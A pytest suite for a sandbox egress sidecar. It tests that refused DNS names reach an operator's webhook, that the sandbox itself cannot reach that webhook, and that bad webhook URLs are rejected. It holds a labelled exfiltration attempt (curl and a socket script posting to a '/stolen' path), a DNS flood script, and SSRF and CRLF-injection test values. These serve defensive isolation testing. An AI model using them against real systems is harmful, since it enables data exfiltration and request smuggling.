"""Refused names told to a server, as OpenSandbox's egress container tells them: whatever the policy says, and by a way that is
not the sandbox's."""

from __future__ import annotations

import datetime
import json
import re
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from lab import plan
from lab.internet import Internet
from lab.processes import wait_until
from lab.receiver import Delivery, Receiver
from lab.sandgate import allowing
from lab.sidecar import INSIDE4, Sidecar, inside, sidecar

PORT = 8099
URL = f"http://{plan.SINK}:{PORT}/denied?tenant=1"

# Asks for names below one that is denied, as fast as it can; the argument is how many.
FLOOD = f"""
import socket, struct, sys
ask = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
ask.connect(("{plan.DNS4}", 53))
ask.settimeout(5)
for number in range(int(sys.argv[1])):
    name = b"".join(bytes([len(label)]) + label for label in (b"n%d" % number, b"denied", b"test")) + b"\\0"
    ask.send(struct.pack(">6H", number & 0xFFFF, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1))
    ask.recv(512)
"""


@pytest.fixture
def shared(internet: Internet, tmp_path: Path) -> Iterator[Sidecar]:
    with sidecar(internet, tmp_path) as made:
        yield made


@pytest.fixture
def receiver(internet: Internet) -> Iterator[Receiver]:
    """Outside, at an address that the sandbox has a way to."""
    with inside(internet.namespace.name):
        made = Receiver(PORT, address=plan.SINK4)
    yield made
    made.close()


def refuse(shared: Sidecar, *names: str) -> None:
    """Has the sandbox ask for names that it may not ask for."""
    for name in names:
        assert shared.run("getent", "ahostsv4", name).returncode != 0


def told(receiver: Receiver) -> list[str]:
    """What was taken, each name once, in their order."""
    return list(dict.fromkeys(delivery.json["hostname"] for delivery in receiver.taken))


def wait_for(receiver: Receiver, name: str, timeout: float = 20) -> Delivery:
    wait_until(lambda: name in told(receiver), f"{name} to be told", timeout)
    return next(delivery for delivery in receiver.taken if delivery.json["hostname"] == name)


def test_refused_names_are_told(internet: Internet, shared: Sidecar, receiver: Receiver) -> None:
    """Though nothing at all is allowed; and what is told is what the original tells, member by member."""
    before = datetime.datetime.now(datetime.UTC).replace(microsecond=0)
    shared.start(DENY_WEBHOOK=URL, SANDBOX_ID="sbx-7")
    refuse(shared, plan.DENIED.upper())
    delivery = wait_for(receiver, plan.DENIED)
    assert delivery.path == "/denied?tenant=1" and delivery.headers["content-type"] == "application/json"
    assert delivery.headers["host"] == f"{plan.SINK}:{PORT}"
    time = delivery.json["timestamp"]
    expected = {"hostname": plan.DENIED, "timestamp": time, "source": "opensandbox-egress", "sandboxId": "sbx-7"}
    assert delivery.body.decode() == json.dumps(expected, separators=(",", ":"))
    moment = datetime.datetime.strptime(time, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=datetime.UTC)
    assert before <= moment <= datetime.datetime.now(datetime.UTC)


def test_names_that_no_resolver_was_asked_for(internet: Internet, shared: Sidecar, receiver: Receiver) -> None:
    shared.start(allowing(plan.ALLOWED, plan.SINK), DENY_WEBHOOK=URL)
    assert shared.reaches(plan.ALLOWED)
    assert not shared.reaches(plan.OTHER, "--resolve", f"{plan.OTHER}:443:{plan.SHARED4}")
    delivery = wait_for(receiver, plan.OTHER)
    assert delivery.json["sandboxId"] == "" and told(receiver) == [plan.OTHER]


@pytest.mark.attack(
    "T1",
    "reaches the server that a sidecar tells of refusals, by its name, its address and the sidecar's own ports",
    stopped_by="kernel, dns",
)
def test_way_of_the_webhook_is_nobody_elses(internet: Internet, shared: Sidecar, receiver: Receiver) -> None:
    script = (
        "import socket\n"
        "for port in [0, *range(43000, 43100)]:\n"
        "    with socket.socket() as s:\n"
        "        s.settimeout(0.5); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
        "        try:\n"
        "            s.bind(('', port)); s.connect(('%s', %d))\n"
        "            s.sendall(b'POST /stolen HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}')\n"
        "            s.recv(100)\n"
        "        except OSError: continue\n" % (plan.SINK4, PORT)
    )

    def steal() -> None:
        shared.run("curl", "-sS", "-m", "4", "-d", "{}", f"http://{plan.SINK}:{PORT}/stolen")
        shared.run("/usr/bin/python3", "-c", script, timeout=120)

    shared.namespace.sysctl("net.ipv4.ip_local_port_range", "43000 43099")
    steal()
    assert len([one for one in receiver.taken if one.path == "/stolen"]) > 2, "it works without a sidecar"
    receiver.deliveries.clear()
    # The ports of the connections just now are free again only after a minute; those that are used next are others.
    shared.namespace.sysctl("net.ipv4.ip_local_port_range", "43100 43199")
    script = script.replace("43000, 43100", "43100, 43200")
    shared.start(DENY_WEBHOOK=URL)
    refuse(shared, plan.DENIED)
    wait_for(receiver, plan.DENIED)
    steal()
    assert not [one for one in receiver.deliveries if one.path == "/stolen"]


def test_server_that_fails(shared: Sidecar, receiver: Receiver) -> None:
    """Three more tries of the same; what is refused outright, or sent elsewhere, is not tried again."""
    shared.start(DENY_WEBHOOK=URL)

    def refuse_one(label: str) -> str:
        shared.run("/usr/bin/python3", "-c", FLOOD.replace("n%d", f"{label}%d"), "1")
        return f"{label}0.denied.test"

    receiver.answers = [500, 503, 204]
    wait_for(receiver, refuse_one("a"))
    assert [one.status for one in receiver.deliveries] == [500, 503, 204]
    assert len({one.body for one in receiver.deliveries}) == 1
    receiver.deliveries.clear()
    receiver.answers = [404, f"http://{plan.SINK}:{PORT}/elsewhere"]
    names = [refuse_one("b"), refuse_one("c")]
    for status in ("404", "307"):
        wait_until(lambda: f"was not told of a refusal: status {status}" in shared.log, "the end of it", 20)
    assert [(one.json["hostname"], one.status) for one in receiver.deliveries] == list(zip(names, (404, 307)))


def test_slow_server_holds_up_nobody(internet: Internet, shared: Sidecar, receiver: Receiver) -> None:
    """What has no room in the queue of 256 is not told, and that is said; traffic goes on."""
    shared.start(allowing(plan.ALLOWED), DENY_WEBHOOK=URL)
    receiver.is_open.clear()
    assert shared.run("/usr/bin/python3", "-c", FLOOD, "600").returncode == 0
    wait_until(lambda: "is too slow; refusals are not told" in shared.log, "the loss")
    assert shared.reaches(plan.ALLOWED) and not shared.reaches(plan.DENIED)
    assert receiver.deliveries == []
    receiver.is_open.set()
    wait_until(lambda: "refusals were not told; they are in the audit trail" in shared.log, "the queue", 60)
    assert 256 <= len(told(receiver)) <= 258
    denied = [record for record in shared.records() if record["event"] == "dns.denied"]
    assert len(denied) >= 600
    refuse(shared, "later.test")
    wait_for(receiver, "later.test")


def test_end_tells_what_is_left(shared: Sidecar, receiver: Receiver) -> None:
    shared.start(DENY_WEBHOOK=URL)
    refuse(shared, "last.test")
    assert shared.end(signal.SIGTERM) == 0
    assert "last.test" in told(receiver)


@pytest.mark.parametrize("lines", [(plan.SINK,), (f"{plan.V4}.64/26", f"{plan.SINK6}")], ids=["name", "address"])
def test_operators_rules_hold_for_it_too(
    internet: Internet, shared: Sidecar, receiver: Receiver, lines: tuple[str, ...]
) -> None:
    """Who creates a sandbox names the server; what the operator denies to everybody is denied to that too."""
    rules = shared.directory / "rules"
    rules.mkdir()
    (rules / "deny.always").write_text("\n".join([*lines, plan.DENIED, ""]))
    shared.start({"defaultAction": "allow"}, DENY_WEBHOOK=URL)
    refuse(shared, plan.DENIED)
    wait_until(lambda: "leads where nothing may be told" in shared.log, "the end of it", 40)
    assert receiver.deliveries == []


def test_certificate(internet: Internet, shared: Sidecar) -> None:
    """Of an authority that the sidecar's machine knows, and of one that it does not."""
    https = URL.replace("http:", "https:")
    with inside(internet.namespace.name):
        receiver = Receiver(PORT, internet.certificates, plan.SINK4)
    try:
        shared.start(DENY_WEBHOOK=https)
        refuse(shared, "one.test")
        wait_until(lambda: "CERTIFICATE_VERIFY_FAILED" in shared.log, "the refusal", 40)
        assert receiver.begun == 0
        shared.end(signal.SIGKILL)
        authorities = Path("/etc/netns") / shared.namespace.name / "ssl/certs/ca-certificates.crt"
        authorities.parent.mkdir(parents=True)
        authorities.write_text(internet.certificates.authority.read_text())
        shared.start(DENY_WEBHOOK=https)
        refuse(shared, "two.test")
        wait_for(receiver, "two.test")
    finally:
        receiver.close()


def test_variables_that_have_no_effect_are_named(shared: Sidecar) -> None:
    """What the original knows, with the reason; what is empty or off says nothing."""
    reasons = {
        "MITMPROXY_SCRIPT": "TLS is not intercepted here",
        "CREDENTIAL_VAULT_REQUIRE_TLS": "TLS is not intercepted here",
        "REVISION_TLS_CAPACITY": "TLS is not intercepted here",
        "REDIRECT_BACKEND": "nftables is spoken to directly",
        "DNS_UPSTREAM_PROBE": "servers are judged by the queries that there are",
        "NAMESERVER_EXEMPT": "every query goes to the resolver here",
        "EXTENSIONS_POC": "Sandgate does not know it",
        "RULE": "Sandgate does not know it",
    }
    silent = {"MITMPROXY_TRANSPARENT": "false", "EXPERIMENTAL_REVISION_RUNTIME": "0", "UPSTREAM_PROXY": " ", "MAX_NS": ""}
    shared.variables = {"OPENSANDBOX_LOG_OUTPUT": "/var/log/egress.log"}
    shared.start(MODE="nft + dns", PROFILE="sidecar", **dict.fromkeys(reasons, "1"), **silent)
    found = re.findall(r"(OPENSANDBOX_\w+) has no effect: (.*)", shared.log)
    expected = {f"OPENSANDBOX_EGRESS_{name}": why for name, why in reasons.items()}
    expected["OPENSANDBOX_LOG_OUTPUT"] = "the log goes to the standard error"
    assert dict(found) == expected and len(found) == len(expected), shared.log


def test_what_every_line_has(internet: Internet, shared: Sidecar) -> None:
    """As the original reads it: what is no pair is passed over, and nobody gives the sandbox another name."""
    shared.start(SANDBOX_ID="sbx-7", METRICS_EXTRA_ATTRS="tenant=bl\nue , broken,=x,y=,,sandbox_id=other,cell=a=b")
    assert shared.request("POST", "/policy", {"egress": []}).status == 200
    changed = next(line for line in shared.log.splitlines() if "policy changed" in line)
    assert "cell: a=b" in changed and "tenant: blue" in changed and "sandbox_id: sbx-7" in changed, changed
    assert "other" not in changed and "broken" not in changed and "y:" not in changed


@pytest.mark.parametrize(
    ("value", "words"),
    [
        ("ftp://siem.example/", "expected a URL of http or https"),
        ("siem.example", "expected a URL of http or https"),
        ("http://user:word@siem.example/", "a user or a password"),
        (f"http://127.0.0.1:{PORT}/", "in this network, where the sandbox could answer"),
        ("http://localhost/", "in this network, where the sandbox could answer"),
        (f"http://[::ffff:127.0.0.1]:{PORT}/", "in this network, where the sandbox could answer"),
        ("http://169.254.169.254/latest", "no server's address"),
        ("http://[fd00:ec2::254]/latest", "no server's address"),
        ("http://a%0d%0aX-Evil:b/", "OPENSANDBOX_EGRESS_DENY_WEBHOOK"),
    ],
)
def test_mistakes_are_named(shared: Sidecar, value: str, words: str) -> None:
    said = shared.refuses(DENY_WEBHOOK=value)
    assert words in said and "OPENSANDBOX_EGRESS_DENY_WEBHOOK: " in said
    assert "word@" not in shared.log and "sandgate" not in shared.namespace.check("nft", "list", "ruleset")


@pytest.mark.slow
def test_nobody_in_the_sandbox_answers(internet: Internet, shared: Sidecar) -> None:
    """A server at the network's own address would be the sandbox's: nothing is told there."""
    server = subprocess.Popen(
        shared.command("/usr/bin/python3", "-m", "http.server", str(PORT)),
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    try:
        shared.start(DENY_WEBHOOK=f"http://{INSIDE4}:{PORT}/")
        refuse(shared, "one.test")
        wait_until(lambda: "was not told of a refusal" in shared.log, "the end of it", 60)
    finally:
        server.kill()
        output, _ = server.communicate()
    assert "POST" not in output
